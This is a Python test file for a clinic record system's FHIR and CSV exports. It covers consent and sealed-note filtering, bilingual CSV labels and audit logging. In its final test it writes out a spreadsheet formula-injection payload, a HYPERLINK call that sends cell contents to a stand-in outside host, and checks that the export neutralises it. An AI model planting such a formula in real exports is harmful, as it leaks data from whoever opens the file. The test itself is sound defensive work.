"""FHIR R4 (fhir.resources.R4B) and CSV exports: for staff, for the member, from the shell."""

import csv
import io
import json
from datetime import timedelta

from fhir.resources.R4B import get_fhir_model_class
from sqlalchemy import select

from core.api import add_summary_item, start_encounter, to_local
from core.audit.models import AuditEvent
from core.db import utcnow
from core.record import consent
from core.record.cli import export_fhir_command
from core.record.export import build_bundle
from core.registry import plugin_host
from core.scheduling.models import Appointment

ALL_TYPES = {"Patient", "Encounter", "Observation", "QuestionnaireResponse", "Condition",
             "MedicationStatement", "AllergyIntolerance", "Consent", "Appointment"}


def validate(bundle):
    """Every resource and the Bundle itself, validated independently of the exporter."""
    get_fhir_model_class("Bundle").model_validate(bundle)
    for item in bundle["entry"]:
        get_fhir_model_class(item["resource"]["resourceType"]).model_validate(item["resource"])
    return [item["resource"] for item in bundle["entry"]]


def types(resources):
    return {r["resourceType"] for r in resources}


def full_record(db, write, nurse, other_discipline, patient):
    visit = start_encounter(db, person=patient, author=nurse)
    write({"systolic": 150, "temperature": "37.2", "mood": "low", "smoker": True,
           "measured_on": "2026-01-05", "measured_at": "2026-01-05T10:30", "symptoms": ["cough"]},
          encounter=visit)
    write(form_id="recordtest.note", payload={"text": "DISCIPLINE NOTE"})
    write(form_id="recordtest.shared", payload={"text": "SEALED NOTE"}, confidentiality="sealed")
    for kind, label in (("problem", "Asthma"), ("medication", "Echinacea"), ("allergy", "Latex"),
                        ("pregnancy", "pregnant"), ("breastfeeding", "no")):
        add_summary_item(db, person_id=patient.id, kind=kind, label=label, author=nurse,
                         natural_product=kind == "medication", code="ICD-10:J45" if kind == "problem" else "")
    rule = consent.add_consent_rule(db, person_id=patient.id, kind="refuse_practitioner",
                                    account_id=other_discipline.id, actor=nurse)
    consent.add_consent_rule(db, person_id=patient.id, kind="restrict_discipline",
                             discipline="psychology", actor=nurse)
    consent.revoke_consent_rule(db, rule, actor=nurse)
    start = utcnow() + timedelta(days=3)
    db.add(Appointment(type_code="sample.visit", person_id=patient.id, starts_at=start,
                       ends_at=start + timedelta(minutes=30), status="booked"))
    db.commit()


def test_staff_export_has_every_resource_type_and_validates(client, db, write, nurse,
                                                            other_discipline, patient):
    full_record(db, write, nurse, other_discipline, patient)
    client.post("/login", data={"username": nurse.username, "password": "correct horse battery staple"})
    response = client.get(f"/people/{patient.id}/chart/export.fhir.json")
    assert response.status_code == 200 and response.mimetype == "application/fhir+json"
    resources = validate(json.loads(response.get_data(as_text=True)))
    assert types(resources) == ALL_TYPES
    text = response.get_data(as_text=True)
    assert "DISCIPLINE NOTE" in text and "SEALED NOTE" in text  # the nurse wrote both
    mapped = [r for r in resources if r["resourceType"] == "Observation" and "valueQuantity" in r]
    assert mapped[0]["valueQuantity"]["value"] == 150 and mapped[0]["subject"]["reference"].startswith("urn:uuid:")
    assert mapped[0]["encounter"]["reference"].startswith("urn:uuid:")
    answers = {i["linkId"]: i["answer"] for r in resources if r["resourceType"] == "QuestionnaireResponse"
               for i in r["item"]}
    assert answers["systolic"] == [{"valueInteger": 150}] and answers["smoker"] == [{"valueBoolean": True}]
    assert answers["mood"][0]["valueCoding"]["code"] == "low"
    assert answers["measured_at"][0]["valueDateTime"].startswith("2026-01-05T10:30:00-05:00")
    # each form's title travels beside its id, so a coop without the form shows what it is
    titles = {r["questionnaire"].partition("|")[0].rpartition(":")[2]:
              r["_questionnaire"]["extension"] for r in resources
              if r["resourceType"] == "QuestionnaireResponse"}
    assert titles["recordtest.vitals"] == [{"url": "http://hl7.org/fhir/StructureDefinition/display",
                                           "valueString": "Vital signs"}]
    consents = [r for r in resources if r["resourceType"] == "Consent"]
    assert sorted(c["status"] for c in consents) == ["active", "inactive"]
    # the booking's type by the title a reader knows it by, its code beside it (it was the code)
    [booked] = [r for r in resources if r["resourceType"] == "Appointment"]
    assert booked["serviceType"] == [{"coding": [{"system": "urn:soin-commun:appointment-type",
                                                  "code": "sample.visit", "display": "Sample visit"}],
                                      "text": "Sample visit"}]
    event = db.execute(select(AuditEvent).where(AuditEvent.action == "chart.export")).scalar_one()
    assert event.actor_id == nurse.id and event.detail["format"] == "fhir" and event.purpose


def test_other_viewers_export_only_what_they_may_read(db, write, nurse, other_discipline, patient,
                                                       make_account):
    full_record(db, write, nurse, other_discipline, patient)
    colleague = make_account(roles=["practitioner"], discipline="recordtest")
    text = json.dumps(build_bundle(db, patient, colleague)[0])
    assert "DISCIPLINE NOTE" in text and "SEALED NOTE" not in text


def test_member_exports_their_visible_entries(client, db, write, nurse, other_discipline, patient,
                                              make_account):
    full_record(db, write, nurse, other_discipline, patient)
    owner = make_account(roles=["member"], person=patient)
    client.post("/login", data={"username": owner.username, "password": "correct horse battery staple"})
    bundle = json.loads(client.get("/portal/export.fhir.json").get_data(as_text=True))
    resources = validate(bundle)
    assert "Appointment" in types(resources) and "QuestionnaireResponse" in types(resources)
    text = json.dumps(bundle)
    assert "DISCIPLINE NOTE" not in text and "SEALED NOTE" not in text
    body = client.get("/portal/export.csv").get_data()
    # a byte-order mark first: a spreadsheet reads "Nº" and "Note importée", not "NÂº"
    assert body.startswith(b"\xef\xbb\xbfPartie du dossier,N\xc2\xba,Date,")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Partie du dossier", "Nº", "Date"]
    assert any(r[0] == "Note au dossier" and r[7] == "Systolic pressure" and r[8] == "150 mmHg"
               for r in rows)
    assert any(r[0] == "Sommaire clinique" and r[8] == "Echinacea" for r in rows)
    assert any(r[0] == "Rendez-vous" for r in rows)


def _member_csv(client, db, write, nurse, other_discipline, patient, make_account, headers):
    full_record(db, write, nurse, other_discipline, patient)
    ended = add_summary_item(db, person_id=patient.id, kind="allergy", label="Penicillin",
                             author=nurse)
    ended.ended_at = utcnow()
    db.commit()
    owner = make_account(roles=["member"], person=patient)
    client.post("/login", data={"username": owner.username, "password": "correct horse battery staple"})
    text = client.get("/portal/export.csv", headers=headers).get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_a_members_csv_reads_in_french_words_not_codes(client, db, write, nurse, other_discipline,
                                                        patient, make_account):
    """A spreadsheet shows the member their record in words (it showed "record", "entry",
    "nursing", "final", "medication", "active", "sample.visit", "booked")."""
    rows = _member_csv(client, db, write, nurse, other_discipline, patient, make_account, {})
    assert rows[0] == ["Partie du dossier", "Nº", "Date", "Quoi", "Discipline", "Auteur", "Statut",
                       "Champ", "Valeur"]
    entry = next(r for r in rows if r[7] == "Systolic pressure")
    # the discipline by its plugin's title, the status as the chart names it; the date in ISO
    assert entry[0] == "Note au dossier" and entry[4] == "Record test" and entry[6] == "Originale"
    assert entry[2].startswith("20") and "T" in entry[2]
    summary = {r[8]: (r[3], r[6]) for r in rows if r[0] == "Sommaire clinique"}
    assert summary["Echinacea"] == ("Médicament", "Toujours vrai")
    assert summary["Enceinte"] == ("Grossesse", "Toujours vrai")
    assert summary["Non"] == ("Allaitement", "Toujours vrai")
    assert summary["Penicillin"] == ("Allergie", "N’est plus vrai")
    [visit] = [r for r in rows if r[0] == "Rendez-vous"]
    assert visit[3] == "Sample visit" and visit[6] == "Réservé"
    # at the coop's clock, to the second (it read UTC to the microsecond: 5 hours off)
    booked = db.scalars(select(Appointment.starts_at).where(Appointment.person_id == patient.id)).one()
    assert visit[2] == to_local(booked).isoformat(timespec="seconds")
    assert visit[2][-6:] in ("-05:00", "-04:00") and "." not in visit[2]
    cells = {cell for row in rows for cell in row}
    assert not {"record", "entry", "summary", "appointment", "final", "recordtest", "medication",
                "active", "ended", "pregnant", "booked", "sample.visit"} & cells


def test_a_members_csv_reads_in_english_in_english(client, db, write, nurse, other_discipline,
                                                    patient, make_account):
    rows = _member_csv(client, db, write, nurse, other_discipline, patient, make_account,
                       {"Accept-Language": "en-CA,en;q=0.9"})
    assert rows[0] == ["Part of the record", "No.", "Date", "What", "Discipline", "Author",
                       "Status", "Field", "Value"]
    entry = next(r for r in rows if r[7] == "Systolic pressure")
    assert entry[0] == "Chart entry" and entry[4] == "Record test" and entry[6] == "Original"
    summary = {r[8]: (r[3], r[6]) for r in rows if r[0] == "Clinical summary"}
    assert summary["Echinacea"] == ("Medication", "Still true")
    assert summary["Pregnant"] == ("Pregnancy", "Still true")
    assert summary["Penicillin"] == ("Allergy", "No longer true")
    [visit] = [r for r in rows if r[0] == "Appointment"]
    assert visit[3] == "Sample visit" and visit[6] == "Booked"


def test_a_bad_plugin_mapping_is_left_out_and_the_plugin_marked(app, db, write, patient):
    write({"systolic": 120, "note": "BAD-FHIR"})
    bundle, builder = build_bundle(db, patient)
    validate(bundle)
    assert builder.rejected and "recordtest" in plugin_host(app).faults
    plugin_host(app).faults.pop("recordtest")


def test_soin_export_fhir_from_the_shell(app, db, write, nurse, other_discipline, patient):
    full_record(db, write, nurse, other_discipline, patient)
    result = app.test_cli_runner().invoke(export_fhir_command, [str(patient.id)])
    assert result.exit_code == 0, result.output
    resources = validate(json.loads(result.output))
    assert types(resources) == ALL_TYPES
    assert "SEALED NOTE" not in result.output  # never from the shell
    event = db.execute(select(AuditEvent).where(AuditEvent.action == "chart.export")).scalar_one()
    assert event.actor_id is None and event.actor_label.startswith("command line")
    assert app.test_cli_runner().invoke(export_fhir_command, ["999999"]).exit_code == 1


def test_a_medication_atc_code_exports_in_the_who_atc_system(db, nurse, patient):
    from core.record.fhir import summary_resources

    item = add_summary_item(db, person_id=patient.id, kind="medication", label="sertraline",
                            code="ATC:N06AB06", author=nurse)
    resource = summary_resources(item, "urn:uuid:6d1c3a50-0000-4000-8000-000000000001")
    get_fhir_model_class("MedicationStatement").model_validate(resource)
    assert resource["medicationCodeableConcept"]["coding"] == [
        {"system": "http://www.whocc.no/atc", "code": "N06AB06"}]


def test_the_csv_never_hands_a_spreadsheet_a_formula(client, db, write, nurse, patient):
    """A note or a summary line starting with = + - @ would run as a formula in the
    spreadsheet of whoever opens the export (a link fetched, a command run): it is written as
    text, behind an apostrophe; the note's own words are kept."""
    write(form_id="recordtest.note", payload={"text": '=HYPERLINK("http://x.example/?"&A1)'})
    add_summary_item(db, person_id=patient.id, kind="problem", label="@SUM(A1:A9)", author=nurse)
    db.commit()
    client.post("/login", data={"username": nurse.username, "password": "correct horse battery staple"})
    rows = list(csv.reader(io.StringIO(client.get(f"/people/{patient.id}/chart/export.csv")
                                       .get_data().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert "'=HYPERLINK(\"http://x.example/?\"&A1)" in cells and "'@SUM(A1:A9)" in cells
    assert not any(cell[:1] in "=+-@" for cell in cells if cell)
